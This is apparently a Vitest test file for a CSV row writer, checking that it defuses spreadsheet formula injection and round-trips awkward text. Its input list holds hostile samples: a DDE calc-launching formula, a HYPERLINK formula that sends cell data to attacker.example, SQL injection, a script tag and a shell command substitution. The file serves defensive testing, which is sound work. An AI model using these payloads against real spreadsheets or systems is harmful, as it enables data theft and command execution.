import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvRow } from '../../core/csv.ts'

/** Texts that other programs have stumbled over. */
const naughty = [
  ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '|calc', '%0A=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠x'],
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example?x="&A1,"click")',
  '"=1+1"',
  '";=1+1;"',
  ...[
    '',
    ' ',
    '\0',
    '\u{feff}=1',
    '\u{200b}',
    '\u{202e}abc',
    'Ａ',
    '𝓐',
    '👩‍👩‍👧',
    '田中さん',
    'ﷺ',
    'İıß',
    "O'Brien",
    "'",
  ],
  ...['undefined', 'null', 'NaN', '1e1000', '0x0', '1,000.00', "'; DROP TABLE ticket--", '<script>alert(1)</script>'],
  ...['a,b', 'a;b', 'a"b', 'a""b', 'two\nlines', 'two\r\nlines', ' ends ', '\\', '$(touch x)', '{{7*7}}', '%s%n'],
]

describe('a row of CSV that we write', () => {
  it.each([
    ['plain words', ['Ada Lovelace', 3, true, null], '"Ada Lovelace","3","true",""\r\n'],
    ['commas, quotes and line ends', ['a,b', 'say "hi"', 'two\nlines'], '"a,b","say ""hi""","two\nlines"\r\n'],
    ['blanks at either end', [' a', 'b '], '" a","b "\r\n'],
    ['a negative number, which is no formula', [-3.5], '"-3.5"\r\n'],
  ])('holds %s', (_, cells, line) => expect(csvRow(cells)).toBe(line))

  it.each(naughty.filter((text) => /^\s*[=+\-@|%＝＋－＠\t\r\n]/.test(text)))(
    'threat 20: makes a formula harmless: %j',
    (text) => {
      expect(csvRow([text]).slice(1)).toBe(`'${text.replaceAll('"', '""')}"\r\n`)
    },
  )

  it('is read back by a CSV reader as it was given, but for the apostrophe', () => {
    const text = fc.oneof(fc.constantFrom(...naughty), fc.string({ unit: 'binary' }), fc.string())
    const row = fc.array(fc.oneof(text, fc.integer(), fc.constant(null)), { minLength: 1, maxLength: 8 })
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 4 }), (rows) => {
        const width = Math.max(...rows.map(({ length }) => length))
        const table = rows.map((cells) => [...cells, ...Array(width - cells.length).fill(null)])
        const read: string[][] = parse(table.map(csvRow).join(''), { record_delimiter: '\r\n' })
        expect(read).toHaveLength(table.length)
        read.forEach((cells, r) => {
          cells.forEach((cell, c) => {
            const given = table[r]?.[c]
            const isFormula = typeof given === 'string' && cell !== given
            expect(isFormula ? cell.replace(/^'/, '') : cell).toBe(String(given ?? ''))
            if (typeof given === 'string') expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠\t\r\n]/)
          })
        })
      }),
      { numRuns: 300 },
    )
  })
})
